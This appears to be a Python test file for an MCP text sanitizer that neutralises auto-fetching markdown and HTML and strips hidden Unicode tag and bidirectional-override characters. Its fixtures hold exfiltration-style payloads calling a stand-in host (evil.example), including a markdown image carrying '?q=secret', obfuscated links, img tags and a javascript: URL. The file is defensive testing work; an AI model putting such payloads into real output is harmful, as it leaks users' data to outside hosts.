"""People see what hides; clients get nothing that fetches by itself."""

import json
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nucleus.mcp.text import HIDDEN, escaped, hides, inert, surely_inert

FETCHED = {
    "an image": "![x](https://evil.example/?q=secret)",
    "a link": "see [here](https://evil.example)",
    "a link over lines": "[x](\n  https://evil.example\n)",
    "a link without scheme": "![x](//evil.example/p.png)",
    "an entity": "![x](h&#116;tps&#58;//evil.example)",
    "angle brackets": "![x](<https://evil.example/a b>)",
    "a reference": "![x][1]\n\n[1]: https://evil.example/p.png",
    "a reference in brackets": "[1]: <//evil.example>",
    "an autolink": "<https://evil.example>",
    "an image tag": '<img src="https://evil.example/p.png">',
    "an image tag over lines": "<IMG\nsrc=//evil.example/p.png\n>",
    "a script": "[x](javascript:alert(1))",
    "a style": "<div style='background:url(//evil.example)'>",
}


@pytest.mark.parametrize("text", FETCHED.values(), ids=FETCHED.keys())
def test_nothing_that_a_client_would_fetch_stays(text: str) -> None:
    done = inert({"content": [{"type": "text", "text": text}]})["content"][0]["text"]
    assert done != text
    assert inert(done) == done
    assert "](" not in done.replace("]\\(", "")
    assert not done.startswith("<")


@pytest.mark.parametrize(
    "text", ["plain", "a[i](j)", "x < y", "a: b", "https://example.org/bare", "[note]", "List<int>"]
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert inert(text) == text


def test_data_and_addresses_of_content_are_no_text() -> None:
    content = [{"type": "image", "data": "![x](https://evil)", "mimeType": "image/png"}, {"uri": "<https://a>"}]
    assert inert(content) == content


def test_tags_and_overrides_are_taken_out_of_results() -> None:
    assert inert("safe\U000e0041\U000e0042\u202e!") == "safe!"


def test_a_person_sees_what_hides() -> None:
    assert escaped("a\u200bb\x1b[2J\U000e0041") == "a\\u{200b}b\\u{1b}[2J\\u{e0041}"
    assert escaped("shown\rhidden") == "shown\\u{d}hidden"
    assert escaped("two\r\nlines\n\tand é 中") == "two\r\nlines\n\tand é 中"


CANDIDATES = st.lists(
    st.sampled_from(
        [*FETCHED.values(), "\U000e0041", "\u202e", "\u2066", "]", "(", ":", "<", "\\", "é", "\u201c", "中", "a", "/"]
    )
    | st.text(max_size=3),
    max_size=8,
).map("".join)
VALUES = st.recursive(
    st.none() | st.integers() | CANDIDATES,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(CANDIDATES, inner, max_size=3),
    max_leaves=6,
)


@given(st.dictionaries(CANDIDATES, VALUES, max_size=3), st.booleans())
def test_a_line_that_is_surely_inert_holds_nothing_that_is_changed(value: dict[str, Any], ascii_only: bool) -> None:
    line = json.dumps(value, ensure_ascii=ascii_only, separators=(",", ":")).encode("utf-8", "surrogatepass")
    if surely_inert(line):
        assert inert(value) == value


@pytest.mark.parametrize("text", FETCHED.values(), ids=FETCHED.keys())
@pytest.mark.parametrize(
    "written", [json.dumps, lambda text: "".join(f"\\u{ord(char):04x}" for char in text).join('""')]
)
@pytest.mark.parametrize("brackets", [0, 100])
def test_no_line_with_a_link_is_surely_inert(text: str, written: Callable[[str], str], brackets: int) -> None:
    """And without this look such a line would pass as it is."""
    line = f'{{"a":{[[]] * brackets},"text":{written(text)}}}'.encode()
    assert not surely_inert(line)
    assert inert(json.loads(line)) != json.loads(line)


@pytest.mark.parametrize("text", ["plain", "it\u2019s", "a: b [1] (c)", "x" * 5000, "one\ntwo", "中", "[[]]"])
def test_ordinary_lines_are_mostly_surely_inert(text: str) -> None:
    line = json.dumps({"text": text, "list": [[1], [2]]}, ensure_ascii=False).encode()
    assert surely_inert(line) == ("\u2019" not in text)


@given(st.text())
def test_an_escaped_text_hides_nothing(text: str) -> None:
    assert not HIDDEN.search(escaped(text))
    assert hides(text) == (escaped(text) != text)


def test_hiding_is_found_in_keys_and_depth() -> None:
    assert hides({"a": [{"b\u2060": 1}]})
    assert hides({"a": [{"b": "\u202e"}]})
    assert not hides({"a": [1, None, {"b": "c\n"}]})


def test_a_hostile_text_takes_no_time_without_bound() -> None:
    for text in ("<a" * 50_000, "](" * 50_000, "]:" * 50_000, "[" * 100_000):
        assert inert(text) == text
